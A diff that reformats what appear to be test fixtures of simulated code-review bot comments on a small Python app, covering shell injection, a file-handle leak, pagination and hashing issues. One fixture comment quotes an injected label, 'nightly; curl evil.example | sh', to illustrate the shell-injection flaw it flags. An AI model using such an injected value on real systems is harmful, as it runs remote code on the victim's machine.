@@ -328,7 +328,7 @@ SO_SHELL = (
     f"{SO_SHELL_TITLE}\n\n`--label` and the directory argument reach `/bin/sh` unquoted, so "
     "a label like `nightly; curl evil.example | sh` executes arbitrary commands. Run `tar` "
     "with an argument list instead:\n\n"
-    f"{FENCE}suggestion\n    archive = directory.parent / f\"{{label}}.tar.gz\"\n"
+    f'{FENCE}suggestion\n    archive = directory.parent / f"{{label}}.tar.gz"\n'
     '    subprocess.run(["tar", "czf", str(archive), "-C", str(directory), "."], check=True)\n'
     f"{FENCE}"
 )
@@ -344,7 +344,7 @@ SO_LEAK_TITLE = "**issue (bug_risk):** The report file is opened without being c
 SO_LEAK = (
     f"{SO_LEAK_TITLE}\n\n`export_report` never calls `handle.close()`, so the report can be "
     "left truncated on disk, and on Windows the file stays locked. Open it with "
-    "`with open(dest, \"w\", encoding=\"utf-8\") as handle:`."
+    '`with open(dest, "w", encoding="utf-8") as handle:`.'
 )
 
 SO_PAGE_TITLE = "**issue (bug_risk):** The first page of parts can never be listed."
@@ -372,35 +372,49 @@ SO_REVIEW = 3948140415
 
 # (id, review id, author, path, start_line, line, created_at, body)
 INLINE = [
-    (2049117302, CR_REVIEW_OLD, CODERABBIT, "app/export.py", 46, 48,
-     "2026-04-14T10:02:11Z", CR_SHELL_2025),
+    (
+        2049117302,
+        CR_REVIEW_OLD,
+        CODERABBIT,
+        "app/export.py",
+        46,
+        48,
+        "2026-04-14T10:02:11Z",
+        CR_SHELL_2025,
+    ),
     (2288410051, CR_REVIEW, CODERABBIT, "app/db.py", 67, 68, "2026-07-21T09:14:37Z", CR_SQL),
-    (2288410063, CR_REVIEW, CODERABBIT, "app/auth.py", None, 19, "2026-07-21T09:14:37Z",
-     CR_MD5),
-    (2288410078, CR_REVIEW, CODERABBIT, "app/auth.py", 59, 60, "2026-07-21T09:14:38Z",
-     CR_EXPIRY),
-    (2288410086, CR_REVIEW, CODERABBIT, "app/db.py", None, 59, "2026-07-21T09:14:38Z",
-     CR_PAGE),
-    (2288410094, CR_REVIEW, CODERABBIT, "app/cli.py", None, 33, "2026-07-21T09:14:38Z",
-     CR_HOSTILE),
-    (2288433120, CP_REVIEW, COPILOT_INLINE, "app/db.py", None, 67, "2026-07-21T09:21:05Z",
-     CP_SQL),
-    (2288433131, CP_REVIEW, COPILOT_INLINE, "app/db.py", None, 59, "2026-07-21T09:21:05Z",
-     CP_PAGE),
-    (2288433147, CP_REVIEW, COPILOT_INLINE, "app/auth.py", None, 59, "2026-07-21T09:21:05Z",
-     CP_EXPIRY),
-    (2288433152, CP_REVIEW, COPILOT_INLINE, "app/export.py", None, 27,
-     "2026-07-21T09:21:06Z", CP_LEAK),
-    (2288433168, CP_REVIEW, COPILOT_INLINE, "app/cli.py", None, 6, "2026-07-21T09:21:06Z",
-     CP_NIT),
-    (2288451209, SO_REVIEW, SOURCERY, "app/export.py", 47, 48, "2026-07-21T09:26:44Z",
-     SO_SHELL),
+    (2288410063, CR_REVIEW, CODERABBIT, "app/auth.py", None, 19, "2026-07-21T09:14:37Z", CR_MD5),
+    (2288410078, CR_REVIEW, CODERABBIT, "app/auth.py", 59, 60, "2026-07-21T09:14:38Z", CR_EXPIRY),
+    (2288410086, CR_REVIEW, CODERABBIT, "app/db.py", None, 59, "2026-07-21T09:14:38Z", CR_PAGE),
+    (2288410094, CR_REVIEW, CODERABBIT, "app/cli.py", None, 33, "2026-07-21T09:14:38Z", CR_HOSTILE),
+    (2288433120, CP_REVIEW, COPILOT_INLINE, "app/db.py", None, 67, "2026-07-21T09:21:05Z", CP_SQL),
+    (2288433131, CP_REVIEW, COPILOT_INLINE, "app/db.py", None, 59, "2026-07-21T09:21:05Z", CP_PAGE),
+    (
+        2288433147,
+        CP_REVIEW,
+        COPILOT_INLINE,
+        "app/auth.py",
+        None,
+        59,
+        "2026-07-21T09:21:05Z",
+        CP_EXPIRY,
+    ),
+    (
+        2288433152,
+        CP_REVIEW,
+        COPILOT_INLINE,
+        "app/export.py",
+        None,
+        27,
+        "2026-07-21T09:21:06Z",
+        CP_LEAK,
+    ),
+    (2288433168, CP_REVIEW, COPILOT_INLINE, "app/cli.py", None, 6, "2026-07-21T09:21:06Z", CP_NIT),
+    (2288451209, SO_REVIEW, SOURCERY, "app/export.py", 47, 48, "2026-07-21T09:26:44Z", SO_SHELL),
     (2288451215, SO_REVIEW, SOURCERY, "app/auth.py", 18, 19, "2026-07-21T09:26:44Z", SO_MD5),
-    (2288451227, SO_REVIEW, SOURCERY, "app/export.py", 27, 28, "2026-07-21T09:26:44Z",
-     SO_LEAK),
+    (2288451227, SO_REVIEW, SOURCERY, "app/export.py", 27, 28, "2026-07-21T09:26:44Z", SO_LEAK),
     (2288451234, SO_REVIEW, SOURCERY, "app/db.py", 58, 59, "2026-07-21T09:26:45Z", SO_PAGE),
-    (2288451240, SO_REVIEW, SOURCERY, "app/stock.py", 39, 40, "2026-07-21T09:26:45Z",
-     SO_PERF),
+    (2288451240, SO_REVIEW, SOURCERY, "app/stock.py", 39, 40, "2026-07-21T09:26:45Z", SO_PERF),
 ]
 
 
